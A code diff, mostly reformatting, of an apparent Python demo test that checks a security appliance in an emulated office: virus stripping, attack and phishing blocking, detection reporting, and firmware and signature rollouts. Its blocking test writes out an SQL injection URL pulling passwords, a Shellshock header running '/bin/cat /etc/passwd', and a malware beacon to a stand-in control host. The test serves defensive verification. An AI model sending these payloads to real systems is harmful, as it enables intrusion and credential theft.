@@ -22,8 +22,22 @@ TIMEZONE = "Asia/Tokyo"
 class Demo:
     """The office, the unit, the fleet, and the steps in order."""
 
-    def __init__(self, report: Report, artifacts: Artifacts, office: Office, unit: Unit, cloud: Cloud, stack: contextlib.ExitStack) -> None:
-        self.report, self.artifacts, self.office, self.unit, self.cloud = report, artifacts, office, unit, cloud
+    def __init__(
+        self,
+        report: Report,
+        artifacts: Artifacts,
+        office: Office,
+        unit: Unit,
+        cloud: Cloud,
+        stack: contextlib.ExitStack,
+    ) -> None:
+        self.report, self.artifacts, self.office, self.unit, self.cloud = (
+            report,
+            artifacts,
+            office,
+            unit,
+            cloud,
+        )
         self._stack = stack
 
     def steps(self) -> list[tuple[str, Callable[[], str]]]:
@@ -77,7 +91,9 @@ class Demo:
         if EICAR in got:
             raise StepFailed("the test virus arrived whole")
         if len(got) != len(sent) or got[: len(BEFORE)] != BEFORE:
-            raise StepFailed(f"{len(got)} bytes of {len(sent)} arrived, or the part before the virus is altered")
+            raise StepFailed(
+                f"{len(got)} bytes of {len(sent)} arrived, or the part before the virus is altered"
+            )
         wiped = sum(a != b for a, b in zip(got, sent, strict=True))
         return f"{len(got):,} bytes as sent: {len(BEFORE):,} before the virus intact, {wiped:,} of {len(EICAR + AFTER):,} from it on overwritten"
 
@@ -86,13 +102,29 @@ class Demo:
     def blocks(self) -> str:
         nas = self.office.address_of("nas")
         attempts = {
-            "SQL injection": ("internet", "--interface", ATTACKER, f"http://{nas}/item?id=1%20UNION%20SELECT%20password%20FROM%20users"),
-            "Shellshock": ("internet", "--interface", ATTACKER, "-A", "() { :; }; /bin/cat /etc/passwd", f"http://{nas}/cgi-bin/status"),
+            "SQL injection": (
+                "internet",
+                "--interface",
+                ATTACKER,
+                f"http://{nas}/item?id=1%20UNION%20SELECT%20password%20FROM%20users",
+            ),
+            "Shellshock": (
+                "internet",
+                "--interface",
+                ATTACKER,
+                "-A",
+                "() { :; }; /bin/cat /etc/passwd",
+                f"http://{nas}/cgi-bin/status",
+            ),
             "C&C call": ("keiri-pc", "-A", "ghost-beacon/2", "-d", "id=1", "http://control.example/gate.php"),
         }
         if not self.office.curl("internet", "--interface", ATTACKER, f"http://{nas}/").arrived:
             raise StepFailed("the server inside cannot be reached at all")
-        through = [name for name, (where, *words) in attempts.items() if self.office.curl(where, *words, seconds=4).arrived]
+        through = [
+            name
+            for name, (where, *words) in attempts.items()
+            if self.office.curl(where, *words, seconds=4).arrived
+        ]
         if through:
             raise StepFailed(f"came through: {', '.join(through)}")
         return f"{', '.join(attempts)}: no answer; the same server answers an ordinary request"
@@ -101,10 +133,16 @@ class Demo:
 
     def guards(self) -> str:
         by_name = self.office.curl("eigyo-pc", f"http://{PHISHING}/", seconds=5)
-        by_host = self.office.curl("eigyo-pc", "--resolve", f"{PHISHING}:80:{WEB}", f"http://{PHISHING}/", seconds=4)
-        by_sni = self.office.curl("eigyo-pc", "--resolve", f"{PHISHING}:443:{WEB}", f"https://{PHISHING}/", seconds=4)
+        by_host = self.office.curl(
+            "eigyo-pc", "--resolve", f"{PHISHING}:80:{WEB}", f"http://{PHISHING}/", seconds=4
+        )
+        by_sni = self.office.curl(
+            "eigyo-pc", "--resolve", f"{PHISHING}:443:{WEB}", f"https://{PHISHING}/", seconds=4
+        )
         allowed = self.office.curl("eigyo-pc", "https://www.example/")
-        through = [name for name, got in (("DNS", by_name), ("Host", by_host), ("SNI", by_sni)) if got.arrived]
+        through = [
+            name for name, got in (("DNS", by_name), ("Host", by_host), ("SNI", by_sni)) if got.arrived
+        ]
         if through or not allowed.arrived:
             raise StepFailed(f"came through: {through}; another site by TLS: exit {allowed.exit_code}")
         return f"{PHISHING}: curl exits {by_name.exit_code} (DNS), {by_host.exit_code} (Host), {by_sni.exit_code} (SNI); www.example by TLS: 200"
@@ -115,7 +153,12 @@ class Demo:
         wanted = {
             "SQL injection": "nas", "Shellshock": "nas", "Ghost RAT": "keiri-pc", "EICAR": "eigyo-pc", PHISHING: "eigyo-pc",
         }  # fmt: skip
-        took = wait_for("all detections to be in the database", lambda: not self._missing(wanted), seconds=10, what=lambda: self._missing(wanted))
+        took = wait_for(
+            "all detections to be in the database",
+            lambda: not self._missing(wanted),
+            seconds=10,
+            what=lambda: self._missing(wanted),
+        )
         page = self.cloud.portal_text("ja", "detections")
         absent = [host for host in set(wanted.values()) if host not in page]
         if absent:
@@ -126,7 +169,11 @@ class Demo:
     def _missing(self, wanted: dict[str, str]) -> list[str]:
         stored = self.cloud.detections()
         texts = [(f"{d['signature']} {d['detail']} {d['reason']}", d.get("host_name", "")) for d in stored]
-        return [f"{word} at {host}" for word, host in wanted.items() if not any(word in text and host == name for text, name in texts)]
+        return [
+            f"{word} at {host}"
+            for word, host in wanted.items()
+            if not any(word in text and host == name for text, name in texts)
+        ]
 
     # --- 7
 
@@ -137,13 +184,17 @@ class Demo:
         running = self.office.download("eigyo-pc", 30, rate="1M")
         began = time.monotonic()
         self.cloud.roll_out("pack", NEW_PACK)
-        wait_until(lambda: self.cloud.unit()["pack"] == NEW_PACK, seconds=60, what="the unit to report the new pack")
+        wait_until(
+            lambda: self.cloud.unit()["pack"] == NEW_PACK, seconds=60, what="the unit to report the new pack"
+        )
         took = time.monotonic() - began
         if running.poll() is not None:
             raise StepFailed("the download ended before the pack was applied; nothing was shown")
         blocked = not self.office.curl("keiri-pc", url, seconds=4).arrived
         if not blocked or not self.office.finished(running, 30, seconds=120):
-            raise StepFailed(f"{NEWLY_LISTED} {'blocked' if blocked else 'still allowed'}; the running download broke or it passed")
+            raise StepFailed(
+                f"{NEWLY_LISTED} {'blocked' if blocked else 'still allowed'}; the running download broke or it passed"
+            )
         return f"pack {NEW_PACK} in force {took:.0f} s after the order; {NEWLY_LISTED} blocked; a 30 MB download across the swap arrived whole"
 
     # --- 8
@@ -153,22 +204,34 @@ class Demo:
         pinger = Pinger(self.office, "keiri-pc")
         began = time.monotonic()
         self.cloud.roll_out("firmware", NEXT)
-        wait_until(lambda: self.cloud.update()["phase"] == "staged", seconds=120, what="the firmware to be staged")
+        wait_until(
+            lambda: self.cloud.update()["phase"] == "staged", seconds=120, what="the firmware to be staged"
+        )
         staged = time.monotonic() - began
         planned = self.cloud.unit().get("reboot_at")
-        wait_until(lambda: self._runs(NEXT), seconds=300, what=f"firmware {NEXT} to be committed ({self.cloud.update})", step=1)
+        wait_until(
+            lambda: self._runs(NEXT),
+            seconds=300,
+            what=f"firmware {NEXT} to be committed ({self.cloud.update})",
+            step=1,
+        )
         replies, gap = pinger.stop()
         return f"staged in {staged:.0f} s while {replies} pings passed; rebooted in the window ({planned}); {NEXT} committed by the booted, healthy slot; longest silence {gap:.0f} s under emulation"
 
     def _runs(self, version: str) -> bool:
         unit, update = self.cloud.unit(), self.cloud.update()
-        return unit["firmware"] == version and update["phase"] == "committed"
+        return bool(unit["firmware"] == version and update["phase"] == "committed")
 
     # --- 9
 
     def falls_back(self) -> str:
         self.cloud.roll_out("firmware", BROKEN, now=True)
-        wait_until(lambda: self.cloud.update()["phase"] == "failed", seconds=400, what=f"{BROKEN} to be reported as failed", step=1)
+        wait_until(
+            lambda: self.cloud.update()["phase"] == "failed",
+            seconds=400,
+            what=f"{BROKEN} to be reported as failed",
+            step=1,
+        )
         unit, update = self.cloud.unit(), self.cloud.update()
         if unit["firmware"] != NEXT:
             raise StepFailed(f"the unit runs {unit['firmware']} and not {NEXT}")
@@ -222,10 +285,17 @@ class Demo:
         began = time.monotonic()
         for number in range(12):
             host = HOSTS[number % 2]
-            self.office.curl(host, "--resolve", f"{PHISHING}:80:{WEB}", f"http://{PHISHING}/outage-{number}", seconds=1)
+            self.office.curl(
+                host, "--resolve", f"{PHISHING}:80:{WEB}", f"http://{PHISHING}/outage-{number}", seconds=1
+            )
             time.sleep(max(0.0, began + (number + 1) * 5 - time.monotonic()))
         self.cloud.start_link()
-        took = wait_for("the events of the outage", lambda: len(self._outage()) >= 12, seconds=90, what=lambda: sorted(self._outage()))
+        took = wait_for(
+            "the events of the outage",
+            lambda: len(self._outage()) >= 12,
+            seconds=90,
+            what=lambda: sorted(self._outage()),
+        )
         numbers = self._outage()
         if len(numbers) != 12:
             raise StepFailed(f"stored {len(numbers)} of 12")
@@ -238,13 +308,21 @@ class Demo:
         return set(stored)
 
     def inspecting(self) -> None:
-        """Wait until the engine blocks its phishing domain."""
-        url = f"http://{PHISHING}/probe"
-        blocked = lambda: not self.office.curl("nas", "--resolve", f"{PHISHING}:80:{WEB}", url, seconds=2).arrived  # noqa: E731 - named for the reader
-        wait_until(lambda: blocked() and self.office.curl("nas", f"http://{WEB}/").arrived, seconds=120, what="the engine to inspect")
+        """Wait until the engine blocks its phishing domain and lets another page through."""
+        wait_until(
+            lambda: not self._reaches_phishing() and self.office.curl("nas", f"http://{WEB}/").arrived,
+            seconds=120,
+            what="the engine to inspect",
+        )
+
+    def _reaches_phishing(self) -> bool:
+        here = ("--resolve", f"{PHISHING}:80:{WEB}", f"http://{PHISHING}/probe")
+        return self.office.curl("nas", *here, seconds=2).arrived
 
 
-def wait_for(name: str, holds: Callable[[], bool], *, seconds: float, what: Callable[[], object] | None = None) -> float:
+def wait_for(
+    name: str, holds: Callable[[], bool], *, seconds: float, what: Callable[[], object] | None = None
+) -> float:
     """Seconds until it holds. Raises StepFailed with what was seen instead."""
     began = time.monotonic()
     try:
@@ -256,6 +334,10 @@ def wait_for(name: str, holds: Callable[[], bool], *, seconds: float, what: Call
 
 def _next_minute(zone: str) -> tuple[str, list[int], str, str]:
     """A window that opens at the next full minute at least 20 s away: (zone, weekdays, start, end)."""
-    opens = (datetime.now(UTC) + timedelta(seconds=80)).replace(second=0, microsecond=0).astimezone(ZoneInfo(zone))
+    opens = (
+        (datetime.now(UTC) + timedelta(seconds=80))
+        .replace(second=0, microsecond=0)
+        .astimezone(ZoneInfo(zone))
+    )
     closes = opens + timedelta(minutes=30)
     return zone, [opens.isoweekday()], f"{opens:%H:%M}", f"{closes:%H:%M}"
